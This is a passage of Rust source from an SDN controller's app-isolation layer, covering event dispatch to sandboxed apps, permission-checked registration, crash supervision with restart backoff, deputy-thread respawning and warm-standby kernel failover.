    /// Outstanding work items: undelivered app events plus unfinished deputy
    /// requests. Zero ⇒ the controller is quiescent.
    inflight: Arc<AtomicUsize>,
}

impl Dispatcher {
    fn new(inflight: Arc<AtomicUsize>) -> Self {
        Dispatcher {
            apps: Mutex::new(HashMap::new()),
            inflight,
        }
    }

    /// The subscribed targets for one event, as `(app, is_interceptor)`.
    fn targets_for(kernel: &Kernel, event: &Event) -> Vec<(AppId, bool)> {
        match event {
            Event::Custom { topic, .. } => kernel
                .topic_subscribers(topic)
                .into_iter()
                .map(|a| (a, false))
                .collect(),
            other => match other.kind() {
                Some(kind) => kernel.subscribers_phased(kind),
                None => Vec::new(),
            },
        }
    }

    /// Snapshots the live queue handles for `targets`, dropping the apps
    /// lock before any kernel call (provenance recording takes the tracker
    /// lock; holding the apps map across it would nest unrelated locks).
    fn queues_for(&self, targets: &[AppId]) -> Vec<(AppId, Arc<AppQueue>)> {
        let apps = self.apps.lock();
        targets
            .iter()
            .filter_map(|t| apps.get(t).map(|h| (*t, Arc::clone(&h.queue))))
            .collect()
    }

    /// Delivers events; when `sync`, blocks until every receiving app's
    /// handler has returned.
    ///
    /// Interceptors (apps whose event-token filter carries
    /// `EVENT_INTERCEPTION`) process each event to completion before
    /// non-interceptors see it; non-interceptors then process concurrently,
    /// all sharing one `Arc` view per (event, payload-visibility) pair.
    fn dispatch(&self, kernel: &Kernel, events: Vec<OutboundEvent>, sync: bool) {
        for out in events {
            self.dispatch_one(kernel, &out.event, sync);
        }
    }

    fn dispatch_one(&self, kernel: &Kernel, event: &Event, sync: bool) {
        let targets = Self::targets_for(kernel, event);
        // Phase 1: interceptors, one at a time, to completion.
        for (target, _) in targets.iter().filter(|(_, i)| *i) {
            if let Some(ack) = self.send_event(kernel, *target, event, true) {
                let _ = ack.recv();
            }
        }
        // Phase 2: everyone else, concurrently, on shared views.
        let receivers: Vec<AppId> = targets
            .iter()
            .filter(|(_, i)| !*i)
            .map(|(a, _)| *a)
            .collect();
        let mut acks = Vec::new();
        self.fan_out(kernel, event, &receivers, sync, &mut acks);
        for ack in acks {
            let _ = ack.recv();
        }
    }

    /// Fans one event out to `targets` sharing at most two materialized
    /// views: the full event for apps holding `read_payload` (whose
    /// packet-in provenance is recorded in a single tracker pass) and a
    /// lazily built payload-stripped view for the rest. Non-packet-in
    /// events share a single view.
    fn fan_out(
        &self,
        kernel: &Kernel,
        event: &Event,
        targets: &[AppId],
        with_ack: bool,
        acks: &mut Vec<Receiver<()>>,
    ) {
        let live = self.queues_for(targets);
        if live.is_empty() {
            return;
        }
        if let Event::PacketIn { packet_in, .. } = event {
            let mut grants: Vec<(AppId, Bytes)> = Vec::new();
            let mut granted = Vec::new();
            let mut stripped_targets = Vec::new();
            for (target, queue) in live {
                if kernel.payload_access_for(target) {
                    grants.push((target, packet_in.payload.clone()));
                    granted.push((target, queue));
                } else {
                    stripped_targets.push((target, queue));
                }
            }
            kernel.record_pkt_ins(&grants);
            if !granted.is_empty() {
                let full = Arc::new(event.clone());
                for (target, queue) in granted {
                    if let Some(ack) =
                        self.push_shared(kernel, target, &queue, Arc::clone(&full), with_ack)
                    {
                        acks.push(ack);
                    }
                }
            }
            if !stripped_targets.is_empty() {
                let stripped = Arc::new(event.with_stripped_payload());
                for (target, queue) in stripped_targets {
                    if let Some(ack) =
                        self.push_shared(kernel, target, &queue, Arc::clone(&stripped), with_ack)
                    {
                        acks.push(ack);
                    }
                }
            }
        } else {
            let shared = Arc::new(event.clone());
            for (target, queue) in live {
                if let Some(ack) =
                    self.push_shared(kernel, target, &queue, Arc::clone(&shared), with_ack)
                {
                    acks.push(ack);
                }
            }
        }
    }

    /// Vectored delivery: enqueues a whole batch of events with one queue
    /// wake-up per receiving app and one provenance pass for every granted
    /// packet-in in the batch. Asynchronous by design — pair with
    /// [`ShieldedController::quiesce`]. Events with interceptor targets
    /// fall back to per-event dispatch (interception is a serialization
    /// point incompatible with batching).
    fn dispatch_vectored(&self, kernel: &Kernel, events: Vec<OutboundEvent>) {
        let mut per_app: HashMap<AppId, Vec<Arc<Event>>> = HashMap::new();
        let mut grants: Vec<(AppId, Bytes)> = Vec::new();
        for out in events {
            let event = out.event;
            let targets = Self::targets_for(kernel, &event);
            if targets.iter().any(|(_, i)| *i) {
                self.dispatch_one(kernel, &event, false);
                continue;
            }
            if let Event::PacketIn { packet_in, .. } = &event {
                let mut full: Option<Arc<Event>> = None;
                let mut stripped: Option<Arc<Event>> = None;
                for (target, _) in &targets {
                    let view = if kernel.payload_access_for(*target) {
                        grants.push((*target, packet_in.payload.clone()));
                        full.get_or_insert_with(|| Arc::new(event.clone()))
                    } else {
                        stripped.get_or_insert_with(|| Arc::new(event.with_stripped_payload()))
                    };
                    per_app
                        .entry(*target)
                        .or_insert_with(arena::lease_event_batch)
                        .push(Arc::clone(view));
                }
            } else {
                let shared = Arc::new(event);
                for (target, _) in &targets {
                    per_app
                        .entry(*target)
                        .or_insert_with(arena::lease_event_batch)
                        .push(Arc::clone(&shared));
                }
            }
        }
        kernel.record_pkt_ins(&grants);
        let mut batches: Vec<(AppId, Arc<AppQueue>, Vec<Arc<Event>>)> =
            Vec::with_capacity(per_app.len());
        {
            let apps = self.apps.lock();
            for (target, batch) in per_app {
                match apps.get(&target) {
                    Some(h) => batches.push((target, Arc::clone(&h.queue), batch)),
                    None => arena::recycle_event_batch(batch),
                }
            }
        }
        for (target, queue, mut batch) in batches {
            self.inflight.fetch_add(batch.len(), Ordering::SeqCst);
            let outcome = queue.push_batch(&mut batch);
            arena::recycle_event_batch(batch);
            let undone = outcome.shed_acks.len() + outcome.refused;
            for old_ack in outcome.shed_acks {
                if let Some(old_ack) = old_ack {
                    let _ = old_ack.send(());
                }
                kernel.audit_dropped(target, "event_shed");
            }
            if undone > 0 {
                self.inflight.fetch_sub(undone, Ordering::SeqCst);
            }
        }
    }

    /// Sends one event view to one app; returns the ack receiver when the
    /// send is acknowledged (`with_ack`). An event shed from a full queue is
    /// acknowledged on the spot and audited; a closed queue (crashed or
    /// stopped app) refuses the event with the accounting undone.
    fn send_event(
        &self,
        kernel: &Kernel,
        target: AppId,
        event: &Event,
        with_ack: bool,
    ) -> Option<crossbeam::channel::Receiver<()>> {
        let queue = {
            let apps = self.apps.lock();
            Arc::clone(&apps.get(&target)?.queue)
        };
        let view = kernel.event_view_for(target, event)?;
        self.push_shared(kernel, target, &queue, Arc::new(view), with_ack)
    }

    /// Pushes an already-materialized shared view onto one app queue, with
    /// the in-flight/shed/closed accounting shared by every delivery path.
    fn push_shared(
        &self,
        kernel: &Kernel,
        target: AppId,
        queue: &AppQueue,
        view: Arc<Event>,
        with_ack: bool,
    ) -> Option<crossbeam::channel::Receiver<()>> {
        self.inflight.fetch_add(1, Ordering::SeqCst);
        let (ack_tx, ack_rx) = if with_ack {
            let (tx, rx) = bounded(1);
            (Some(tx), Some(rx))
        } else {
            (None, None)
        };
        match queue.push_event(view, ack_tx) {
            PushOutcome::Queued => ack_rx,
            PushOutcome::Shed(old_ack) => {
                if let Some(old_ack) = old_ack {
                    let _ = old_ack.send(());
                }
                self.inflight.fetch_sub(1, Ordering::SeqCst);
                kernel.audit_dropped(target, "event_shed");
                ack_rx
            }
            PushOutcome::Closed => {
                self.inflight.fetch_sub(1, Ordering::SeqCst);
                None
            }
        }
    }
}

/// Errors registering an app.
#[derive(Debug, Clone, PartialEq)]
pub enum RegisterError {
    /// Loading-time check failed: these required tokens are not granted.
    MissingTokens(Vec<PermissionToken>),
    /// The manifest's virtual topology is invalid for this network.
    InvalidManifest(String),
    /// The app panicked inside `on_start`; it was not started.
    StartupPanic,
}

impl std::fmt::Display for RegisterError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            RegisterError::MissingTokens(ts) => {
                write!(f, "app requires ungranted tokens: ")?;
                let mut sep = "";
                for t in ts {
                    write!(f, "{sep}{t}")?;
                    sep = ", ";
                }
                Ok(())
            }
            RegisterError::InvalidManifest(m) => write!(f, "invalid manifest: {m}"),
            RegisterError::StartupPanic => write!(f, "app panicked during on_start"),
        }
    }
}

impl std::error::Error for RegisterError {}

/// Lifecycle state of a registered app, as seen by the supervisor.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AppState {
    /// Processing events normally.
    Running,
    /// Just crashed; the restart policy has not been applied yet. Observable
    /// only transiently — the supervisor immediately moves the app to
    /// [`AppState::Quarantined`] or [`AppState::Stopped`].
    Crashed,
    /// Crashed and waiting out its restart backoff; the supervisor restarts
    /// it once the virtual clock reaches `until`.
    Quarantined {
        /// Virtual time (seconds) at which the restart becomes due.
        until: u64,
    },
    /// A restart is in progress (`on_start` of the fresh instance running).
    Restarting,
    /// Terminal: stopped by policy ([`RestartPolicy::Never`] or restart
    /// budget exhausted) or by controller shutdown.
    Stopped,
}

/// What the supervisor does with an app that crashed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum RestartPolicy {
    /// Never restart: one crash and the app stays down.
    #[default]
    Never,
    /// Restart up to `max_restarts` times, with exponential backoff on the
    /// virtual clock: the k-th restart (1-based) waits
    /// `backoff_base_secs * 2^(k-1)` virtual seconds in quarantine.
    UpTo {
        /// Restart budget.
        max_restarts: u32,
        /// First backoff, in virtual seconds; doubles per restart.
        backoff_base_secs: u64,
    },
}

/// Tunables for the isolation + supervision machinery.
#[derive(Debug, Clone)]
pub struct ControllerConfig {
    /// Kernel Service Deputy threads (must be ≥ 1; service apps publishing
    /// synchronous custom events need ≥ 2).
    pub num_deputies: usize,
    /// Bound on each app's undelivered-event queue; beyond it the oldest
    /// pending event is shed.
    pub app_queue_capacity: usize,
    /// Per-call reply deadline on the app side.
    pub call_timeout: Duration,
    /// Serve call-only read calls on the app's own thread (epoch-validated,
    /// zero channel crossings), falling back to the deputy on epoch change
    /// and for every stateful or mutating call. On by default; turn off to
    /// force the pure-deputy path (baseline measurements, differentials).
    pub read_fast_path: bool,
    /// Single-writer switch lanes inside the group-commit combiner
    /// (DESIGN.md §16): flow-mod application for a datapath always runs on
    /// its home lane (`dpid % switch_lanes`). 0 (the default) disables the
    /// lane pool — the combiner applies batches inline, which is the right
    /// choice below ~4 cores where lane handoff costs more than it saves.
    pub switch_lanes: usize,
    /// Pin deputy threads and switch lanes to cores round-robin
    /// (best-effort `sched_setaffinity`; a no-op where unsupported). Off by
    /// default.
    pub pin_threads: bool,
}

impl Default for ControllerConfig {
    fn default() -> Self {
        ControllerConfig {
            num_deputies: 4,
            app_queue_capacity: 1024,
            call_timeout: Duration::from_secs(10),
            read_fast_path: true,
            switch_lanes: 0,
            pin_threads: false,
        }
    }
}

type AppFactory = Box<dyn Fn() -> Box<dyn App> + Send>;

/// Supervisor bookkeeping for one registered app.
struct Supervised {
    name: String,
    manifest: PermissionSet,
    policy: RestartPolicy,
    /// Builds a fresh instance for restarts; `None` ⇒ not restartable.
    factory: Option<AppFactory>,
    state: AppState,
    crashes: u32,
    restarts: u32,
}

/// Lifecycle state for every registered app, shared between the controller
/// front-end and the app threads (which report their own crashes).
#[derive(Default)]
pub(crate) struct Supervisor {
    entries: Mutex<HashMap<AppId, Supervised>>,
}

impl Supervised {
    /// The state after one more crash, given the policy and current budget.
    fn state_after_crash(&self, now: u64) -> AppState {
        match self.policy {
            RestartPolicy::Never => AppState::Stopped,
            RestartPolicy::UpTo {
                max_restarts,
                backoff_base_secs,
            } => {
                if self.factory.is_some() && self.restarts < max_restarts {
                    AppState::Quarantined {
                        until: now + (backoff_base_secs << self.restarts),
                    }
                } else {
                    AppState::Stopped
                }
            }
        }
    }
}

/// Reaps a crashed app end-to-end. Runs on the crashed app's own thread
/// (for `on_event` crashes): unroutes it, reclaims its kernel state and
/// flows, audits the crash, and applies the restart policy.
fn handle_crash(
    kernel: &Kernel,
    dispatcher: &Dispatcher,
    supervisor: &Supervisor,
    id: AppId,
    phase: &str,
) {
    // Stop routing events to the dead thread. (The JoinHandle is dropped:
    // this IS that thread, so joining is neither possible nor needed.)
    dispatcher.apps.lock().remove(&id);
    // Reclaim everything the app held; surviving subscribers learn of the
    // reclaimed flows exactly as they would of a timeout expiry.
    let events = kernel.deregister_app(id);
    kernel.audit_crash(id, phase);
    dispatcher.dispatch(kernel, events, false);
    // Apply the restart policy.
    let mut entries = supervisor.entries.lock();
    if let Some(sup) = entries.get_mut(&id) {
        sup.crashes += 1;
        sup.state = AppState::Crashed;
        sup.state = sup.state_after_crash(kernel.now());
    }
}

/// The deputy pool plus the shared state its watchdog needs to respawn
/// members that die.
struct DeputyPool {
    cell: Arc<KernelCell>,
    dispatcher: Arc<Dispatcher>,
    call_rx: Receiver<DeputyRequest>,
    inflight: Arc<AtomicUsize>,
    faults: Arc<FaultRegistry>,
    handles: Mutex<Vec<JoinHandle<()>>>,
    next_deputy: AtomicUsize,
    respawns: AtomicUsize,
    shutting_down: AtomicBool,
    /// Core-affine deputy shards: pin each deputy to a core, round-robin,
    /// best-effort (the ROADMAP's "NUMA/core-pinned deputy shards" lever).
    pin_threads: bool,
}

impl DeputyPool {
    fn spawn_deputy(&self) {
        let i = self.next_deputy.fetch_add(1, Ordering::Relaxed);
        let cell = Arc::clone(&self.cell);
        let dispatcher = Arc::clone(&self.dispatcher);
        let rx = self.call_rx.clone();
        let inflight = Arc::clone(&self.inflight);
        let faults = Arc::clone(&self.faults);
        let pin = self.pin_threads;
        let handle = std::thread::Builder::new()
            .name(format!("ksd-{i}"))
            .spawn(move || {
                if pin {
                    let _ = affinity::pin_to_core(i);
                }
                deputy_loop(cell, dispatcher, rx, inflight, faults)
            })
            .expect("spawn deputy");
        self.handles.lock().push(handle);
    }

    /// Joins any deputy thread that died and spawns a replacement. Returns
    /// how many were replaced.
    fn reap_and_respawn(&self) -> usize {
        let mut dead = 0;
        {
            let mut handles = self.handles.lock();
            let mut i = 0;
            while i < handles.len() {
                if handles[i].is_finished() {
                    let _ = handles.swap_remove(i).join();
                    dead += 1;
                } else {
                    i += 1;
                }
            }
        }
        for _ in 0..dead {
            self.spawn_deputy();
        }
        self.respawns.fetch_add(dead, Ordering::SeqCst);
        dead
    }
}

/// Polls the pool for dead deputies until shutdown.
fn watchdog_loop(pool: Arc<DeputyPool>) {
    while !pool.shutting_down.load(Ordering::SeqCst) {
        pool.reap_and_respawn();
        std::thread::sleep(Duration::from_millis(2));
    }
}

/// The swappable handle to the active kernel (warm-standby failover,
/// DESIGN.md §12).
///
/// Deputies, app threads and the controller front-end no longer pin an
/// `Arc<Kernel>` for their lifetime; they hold the cell and load the active
/// kernel at the point of use. [`ShieldedController::promote`] swaps a
/// caught-up standby in and bumps the version, so per-kernel caches (the
/// read fast path's engine snapshot) invalidate on the next access.
///
/// Loads take an uncontended `RwLock` read — promotion is rare, reads are
/// the common case — and each load is a self-contained `Arc` clone, so a
/// component that loaded the old kernel mid-failover finishes its current
/// operation against the sealed primary (observing [`ApiError::Shutdown`]
/// for mutations) and picks up the promoted kernel on its next load.
pub struct KernelCell {
    current: RwLock<Arc<Kernel>>,
    version: AtomicU64,
}

impl KernelCell {
    /// Wraps the initial kernel.
    pub fn new(kernel: Arc<Kernel>) -> Self {
        KernelCell {
            current: RwLock::new(kernel),
            version: AtomicU64::new(0),
        }
    }

    /// The active kernel.
    pub fn load(&self) -> Arc<Kernel> {
        Arc::clone(&self.current.read())
    }

    /// Bumped on every [`KernelCell::store`]; cache keys include it so a
    /// promoted kernel never serves another kernel's cached state.
    pub fn version(&self) -> u64 {
        self.version.load(Ordering::Acquire)
    }

    /// Swaps in a new active kernel (failover promotion).
    pub fn store(&self, kernel: Arc<Kernel>) {
        let mut current = self.current.write();
        *current = kernel;
        self.version.fetch_add(1, Ordering::AcqRel);
    }
}

/// A warm-standby kernel tailing the primary's command journal
/// (DESIGN.md §12).
///
/// The standby is stood up from a [`KernelSnapshot`] over its own simulated
/// network replica and catches up by replaying journal records past its
/// `last_applied` watermark. Replay is idempotent (keyed by sequence
/// number), so tailing while the primary still appends is safe: a record
/// replayed early is skipped when seen again.
///
/// Promotion ([`ShieldedController::promote`]) seals the primary first —
/// the seal is a barrier behind the commit lock, so by the time the final
/// [`WarmStandby::catch_up`] runs, the journal holds every command whose
/// reply was acknowledged to a caller. Zero acknowledged commands are lost;
/// duplicate applies are impossible.
pub struct WarmStandby {
    kernel: Arc<Kernel>,
    journal: Arc<Journal>,
}

impl WarmStandby {
    /// Recovers a standby kernel from `snapshot` over `network` and tails
    /// `journal` from the snapshot's watermark.
    pub fn new(network: Network, snapshot: &KernelSnapshot, journal: Arc<Journal>) -> Self {
        let kernel = Arc::new(Kernel::recover(network, snapshot, &journal));
        WarmStandby { kernel, journal }
    }

    /// Replays every journal record the standby has not applied yet.
    /// Returns how many were applied. Call periodically while tailing, and
    /// once more (via [`ShieldedController::promote`]) after the primary is
    /// sealed.
    pub fn catch_up(&self) -> usize {
        let records = self.journal.records_since(self.kernel.last_applied());
        self.kernel.replay_records(&records)
    }

    /// The standby kernel, for inspection (it is not serving apps yet).
    pub fn kernel(&self) -> Arc<Kernel> {
        Arc::clone(&self.kernel)
    }
}

/// The SDNShield-enabled controller: kernel + deputy pool + isolated apps.
///
/// # Examples
///
/// ```
/// use sdnshield_controller::isolation::ShieldedController;
/// use sdnshield_netsim::network::Network;
/// use sdnshield_netsim::topology::builders;
///
/// let controller = ShieldedController::new(Network::new(builders::linear(2), 1024), 2);
/// controller.shutdown();
/// ```
pub struct ShieldedController {
    cell: Arc<KernelCell>,
    call_tx: Sender<DeputyRequest>,
    dispatcher: Arc<Dispatcher>,
    pool: Arc<DeputyPool>,
    watchdog: Mutex<Option<JoinHandle<()>>>,
    supervisor: Arc<Supervisor>,
    faults: Arc<FaultRegistry>,
    next_app: AtomicU16,
    inflight: Arc<AtomicUsize>,
    fast_hits: Arc<AtomicU64>,
    config: ControllerConfig,
}

impl ShieldedController {
    /// Builds a controller over a network with `num_deputies` Kernel Service
    /// Deputy threads and default supervision tunables.
    ///
    /// # Panics
    ///
    /// Panics when `num_deputies == 0`. Note that service apps publishing
    /// synchronous custom events need at least 2 deputies (the publisher's
    /// deputy blocks on subscriber acknowledgment while subscribers issue
    /// their own calls).
    pub fn new(network: Network, num_deputies: usize) -> Self {
        Self::new_with_config(
            network,
            ControllerConfig {
                num_deputies,
                ..ControllerConfig::default()
            },
        )
    }

    /// Builds a controller with explicit supervision tunables.
    ///
    /// # Panics
    ///
    /// Panics when `config.num_deputies == 0`.
    pub fn new_with_config(network: Network, config: ControllerConfig) -> Self {
        assert!(config.num_deputies > 0, "need at least one deputy");
        let kernel = Arc::new(Kernel::new(network, true));
        if config.switch_lanes > 0 {
            kernel.set_switch_lanes(config.switch_lanes, config.pin_threads);
        }
        let cell = Arc::new(KernelCell::new(kernel));
        let inflight = Arc::new(AtomicUsize::new(0));
        let dispatcher = Arc::new(Dispatcher::new(Arc::clone(&inflight)));
        let faults = Arc::new(FaultRegistry::default());
        let (call_tx, call_rx) = unbounded::<DeputyRequest>();
        let pool = Arc::new(DeputyPool {
            cell: Arc::clone(&cell),
            dispatcher: Arc::clone(&dispatcher),
            call_rx,
            inflight: Arc::clone(&inflight),
            faults: Arc::clone(&faults),
            handles: Mutex::new(Vec::new()),
            next_deputy: AtomicUsize::new(0),
            respawns: AtomicUsize::new(0),
            shutting_down: AtomicBool::new(false),
            pin_threads: config.pin_threads,
        });
        for _ in 0..config.num_deputies {
            pool.spawn_deputy();
        }
        let watchdog = {
            let pool = Arc::clone(&pool);
            std::thread::Builder::new()
                .name("ksd-watchdog".into())
                .spawn(move || watchdog_loop(pool))
                .expect("spawn watchdog")
        };
        ShieldedController {
            cell,
            call_tx,
            dispatcher,
            pool,
            watchdog: Mutex::new(Some(watchdog)),
            supervisor: Arc::new(Supervisor::default()),
            faults,
            next_app: AtomicU16::new(1),
            inflight,
            fast_hits: Arc::new(AtomicU64::new(0)),
            config,
        }
    }

    /// How many API calls the app-side read fast path has served without a
    /// deputy crossing (all registered apps combined).
    pub fn fast_path_hits(&self) -> u64 {
        self.fast_hits.load(Ordering::Relaxed)
    }

    /// Group-commit write-pipeline counters of the *active* kernel
    /// (DESIGN.md §16): submit-batch-size histogram, combiner occupancy,
    /// lane fan-out depths. After a [`ShieldedController::promote`] the
    /// counters restart with the promoted kernel, like every other
    /// per-kernel statistic.
    pub fn combiner_stats(&self) -> crate::kernel::CombinerStats {
        self.cell.load().combiner_stats()
    }

    /// Blocks until all in-flight events and calls have drained — including
    /// cascades the synchronous delivery calls do not wait for (e.g. the
    /// packet-ins a flooded packet-out generates on downstream switches).
    pub fn quiesce(&self) {
        while !self.quiesce_timeout(Duration::from_millis(100)) {}
    }

    /// Like [`ShieldedController::quiesce`], but gives up at the deadline.
    /// Returns whether the controller actually went quiescent — `false`
    /// means work was still outstanding (e.g. an app stalled inside
    /// `on_event`), and the caller decides what to do about it instead of
    /// spinning forever.
    pub fn quiesce_timeout(&self, timeout: Duration) -> bool {
        let deadline = Instant::now() + timeout;
        let mut stable = 0;
        loop {
            if self.inflight.load(Ordering::SeqCst) == 0 {
                stable += 1;
                if stable >= 3 {
                    return true;
                }
            } else {
                stable = 0;
            }
            if Instant::now() >= deadline {
                return self.inflight.load(Ordering::SeqCst) == 0;
            }
            std::thread::yield_now();
        }
    }

    /// The active kernel, for inspection (tests, benches, forensics).
    ///
    /// The returned handle is a point-in-time load: after a
    /// [`ShieldedController::promote`] it refers to the sealed old primary;
    /// load again to observe the promoted kernel.
    pub fn kernel(&self) -> Arc<Kernel> {
        self.cell.load()
    }

    /// The kernel cell (components that must track failover hold this).
    pub fn kernel_cell(&self) -> Arc<KernelCell> {
        Arc::clone(&self.cell)
    }

    /// Attaches a command journal to the active kernel: every subsequent
    /// state-changing command is appended under the commit lock (see
    /// [`crate::journal`]).
    pub fn attach_journal(&self, journal: Arc<Journal>) {
        self.cell.load().attach_journal(journal);
    }

    /// A consistent snapshot of the active kernel — the starting point for
    /// standing up a [`WarmStandby`] or writing a checkpoint to disk.
    pub fn snapshot(&self) -> KernelSnapshot {
        self.cell.load().snapshot()
    }

    /// Fails over to `standby` and returns the promoted kernel.
    ///
    /// Protocol (DESIGN.md §12): seal the active kernel — the seal is a
    /// barrier, so every command whose reply was acknowledged has finished
    /// appending to the journal — then replay the journal tail into the
    /// standby, hand the journal over to the promoted kernel, and swap it
    /// into the cell. Deputies and app threads pick the promoted kernel up
    /// on their next load; calls that raced the seal observe
    /// [`ApiError::Shutdown`] and can be retried against the new primary.
    pub fn promote(&self, standby: &WarmStandby) -> Arc<Kernel> {
        let old = self.cell.load();
        old.seal();
        standby.catch_up();
        let promoted = standby.kernel();
        if let Some(journal) = old.journal() {
            promoted.attach_journal(journal);
        }
        // The promoted kernel inherits the controller's write-pipeline
        // configuration (a recovered kernel starts with lanes disabled).
        if self.config.switch_lanes > 0 {
            promoted.set_switch_lanes(self.config.switch_lanes, self.config.pin_threads);
        }
        self.cell.store(Arc::clone(&promoted));
        promoted
    }

    /// Registers an app with its (reconciled) permission manifest: compiles
    /// the permission engine, runs the loading-time token check, spawns the
    /// app's unprivileged thread, and runs `on_start` to completion. The
    /// app is supervised with [`RestartPolicy::Never`]: a crash reaps it
    /// permanently.
    ///
    /// # Errors
    ///
    /// [`RegisterError`] on loading-time failures; the app is not started
    /// and no kernel state survives the failure.
    pub fn register(
        &self,
        app: Box<dyn App>,
        manifest: &PermissionSet,
    ) -> Result<AppId, RegisterError> {
        self.register_inner(app, manifest, RestartPolicy::Never, None)
    }

    /// Registers a *restartable* app: `factory` builds a fresh instance for
    /// the initial start and for every supervised restart after a crash,
    /// per `policy`. Restarts keep the same [`AppId`] (audit continuity)
    /// and re-run `on_start` on the fresh instance once the quarantine
    /// backoff elapses on the virtual clock (see
    /// [`ShieldedController::advance_clock`]).
    ///
    /// # Errors
    ///
    /// As [`ShieldedController::register`].
    pub fn register_supervised(
        &self,
        factory: impl Fn() -> Box<dyn App> + Send + 'static,
        manifest: &PermissionSet,
        policy: RestartPolicy,
    ) -> Result<AppId, RegisterError> {
        let app = factory();
        self.register_inner(app, manifest, policy, Some(Box::new(factory)))
    }

    fn register_inner(
        &self,
        app: Box<dyn App>,
        manifest: &PermissionSet,
        policy: RestartPolicy,
        factory: Option<AppFactory>,
    ) -> Result<AppId, RegisterError> {
        let id = AppId(self.next_app.fetch_add(1, Ordering::Relaxed));
        let name = app.name().to_owned();
        let kernel = self.cell.load();
        kernel
            .register_app(id, &name, manifest)
            .map_err(|e| RegisterError::InvalidManifest(e.to_string()))?;
        let missing = kernel.missing_tokens(id, &app.required_tokens());
        if !missing.is_empty() {
            // Roll the registration back: without this the rejected app
            // would stay resident in the kernel (engine + name) forever.
            kernel.deregister_app(id);
            return Err(RegisterError::MissingTokens(missing));
        }
        self.supervisor.entries.lock().insert(
            id,
            Supervised {
                name: name.clone(),
                manifest: manifest.clone(),
                policy,
                factory,
                state: AppState::Running,
                crashes: 0,
                restarts: 0,
            },
        );
        match self.spawn_app(id, &name, app) {
            Ok(()) => Ok(id),
            Err(e) => {
                // Registration-time startup panic is a registration failure,
                // not a crash: undo everything.
                kernel.deregister_app(id);
                self.supervisor.entries.lock().remove(&id);
                Err(e)
            }
        }
    }

    /// Spawns the app thread and waits for `on_start` to finish.
    fn spawn_app(&self, id: AppId, name: &str, app: Box<dyn App>) -> Result<(), RegisterError> {
        let fast = self.config.read_fast_path.then(|| {
            Arc::new(FastLane::new(
                Arc::clone(&self.cell),
                id,
                Arc::clone(&self.fast_hits),
            ))
        });
        let ctx = AppCtx::new(
            id,
            CallRoute::Deputy {
                tx: self.call_tx.clone(),
                inflight: Arc::clone(&self.inflight),
                timeout: self.config.call_timeout,
                fast,
            },
        );
        let queue = Arc::new(AppQueue::new(self.config.app_queue_capacity));
        let (ready_tx, ready_rx) = bounded(1);
        let thread_name = format!("app-{}-{name}", id.0);
        let thread = {
            let queue = Arc::clone(&queue);
            let cell = Arc::clone(&self.cell);
            let dispatcher = Arc::clone(&self.dispatcher);
            let supervisor = Arc::clone(&self.supervisor);
            let inflight = Arc::clone(&self.inflight);
            std::thread::Builder::new()
                .name(thread_name)
                .spawn(move || {
                    app_loop(
                        app, ctx, id, queue, ready_tx, cell, dispatcher, supervisor, inflight,
                    )
                })
                .expect("spawn app thread")
        };
        self.dispatcher.apps.lock().insert(
            id,
            AppHandle {
                queue,
                thread: Some(thread),
            },
        );
        // Wait for on_start so subscriptions exist before events flow.
        if !ready_rx.recv().unwrap_or(false) {
            if let Some(mut handle) = self.dispatcher.apps.lock().remove(&id) {
                if let Some(t) = handle.thread.take() {
                    let _ = t.join();
                }
            }
            return Err(RegisterError::StartupPanic);
        }
        Ok(())
    }

    /// Arms a fault-injection plan for an app's mediated calls (the
    /// deputy-side faults; app-side faults live in the app under test —
    /// see [`crate::fault`]).
    pub fn arm_faults(&self, app: AppId, plan: FaultPlan) {
        let journal_faults = plan.journal_faults();
        if !journal_faults.is_none() {
            if let Some(journal) = self.cell.load().journal() {
                journal.arm_faults(journal_faults);
            }
        }
        self.faults.arm(app, plan);
    }

    /// The supervisor's view of an app's lifecycle state.
    pub fn app_state(&self, app: AppId) -> Option<AppState> {
        self.supervisor
            .entries
            .lock()
            .get(&app)
            .map(|sup| sup.state)
    }

    /// How many times an app has crashed (any phase).
    pub fn crash_count(&self, app: AppId) -> u32 {
        self.supervisor
            .entries
            .lock()
            .get(&app)
            .map_or(0, |sup| sup.crashes)
    }

    /// How many restart attempts the supervisor has made for an app.
    pub fn restart_count(&self, app: AppId) -> u32 {
        self.supervisor
            .entries
            .lock()
            .get(&app)
            .map_or(0, |sup| sup.restarts)
    }

    /// How many dead deputy threads the watchdog has replaced.
    pub fn deputy_respawns(&self) -> usize {
        self.pool.respawns.load(Ordering::SeqCst)
    }

    /// Deputy threads currently alive.
    pub fn deputies_alive(&self) -> usize {
        self.pool
            .handles
            .lock()
            .iter()
            .filter(|h| !h.is_finished())
            .count()
    }

    /// The registered name of an app (survives crashes, for forensics).
    pub fn app_name(&self, app: AppId) -> Option<String> {
        self.supervisor
            .entries
            .lock()
            .get(&app)
            .map(|sup| sup.name.clone())
    }

    /// Delivers a packet-in to subscribed apps, blocking until every app has
    /// processed it (the measurement boundary for the paper's latency
    /// experiments).
    pub fn deliver_packet_in(&self, dpid: DatapathId, packet_in: PacketIn) {
        let kernel = self.cell.load();
        let events = kernel.feed_packet_in(dpid, packet_in);
        self.dispatcher.dispatch(&kernel, events, true);
    }

    /// Delivers a packet-in without waiting for app processing — the
    /// pipelined pressure-test mode (paper Fig 7: CBench keeps many
    /// packet-ins outstanding). Pair with [`ShieldedController::quiesce`].
    pub fn deliver_packet_in_nowait(&self, dpid: DatapathId, packet_in: PacketIn) {
        let kernel = self.cell.load();
        let events = kernel.feed_packet_in(dpid, packet_in);
        self.dispatcher.dispatch(&kernel, events, false);
    }

    /// Delivers a whole batch of packet-ins with vectored dispatch: events
    /// are grouped per subscribing app and enqueued with one wake-up per
    /// app, sharing `Arc` views and a single provenance pass. Asynchronous —
    /// pair with [`ShieldedController::quiesce`]. This is the high-rate
    /// ingestion path the paper's Fig 7 CBench workload exercises.
    pub fn deliver_packet_in_batch(&self, batch: Vec<(DatapathId, PacketIn)>) {
        let kernel = self.cell.load();
        let mut events = Vec::new();
        for (dpid, packet_in) in batch {
            events.extend(kernel.feed_packet_in(dpid, packet_in));
        }
        self.dispatcher.dispatch_vectored(&kernel, events);
    }

    /// Injects a data-plane frame from a host and synchronously processes
    /// the resulting packet-ins.
    pub fn inject_host_frame(&self, frame: EthernetFrame) {
        let kernel = self.cell.load();
        let events = kernel.inject_host_frame(frame);
        self.dispatcher.dispatch(&kernel, events, true);
    }

